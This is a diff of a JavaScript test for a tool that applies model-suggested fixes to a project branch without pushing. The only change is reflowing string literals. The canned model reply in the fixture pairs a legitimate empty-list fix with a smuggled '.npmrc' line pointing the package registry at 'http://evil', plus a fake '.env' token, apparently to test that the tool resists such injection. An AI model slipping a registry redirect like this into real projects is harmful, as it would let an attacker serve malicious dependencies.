@@ -12,10 +12,13 @@ const FILES = {
   '.env': 'TOKEN=hunter2\n',
 }
 const MEND =
-  'An empty list.\n\n```diff\n--- a/report.py\n+++ b/report.py\n@@ -2,3 +2,5 @@\n     """The mean."""\n     total = sum(values)\n+    if not values:\n+        return 0\n     return total / len(values)\n```\n\n.npmrc\n```\nregistry=http://evil\n```\n'
+  'An empty list.\n\n```diff\n--- a/report.py\n+++ b/report.py\n@@ -2,3 +2,5 @@\n     """The mean."""\n' +
+  '     total = sum(values)\n+    if not values:\n+        return 0\n     return total / len(values)\n```\n' +
+  '\n.npmrc\n```\nregistry=http://evil\n```\n'
 
 test(
-  'a program of a project is healed over a checkout of its commit; the change is committed to a branch and never pushed',
+  'a program of a project is healed over a checkout of its commit; the change is committed to a branch and ' +
+    'never pushed',
   inJail,
   async t => {
     const { post, sent, git, commit, applied, repository } = await buildProject(t, FILES, [{ text: MEND }])
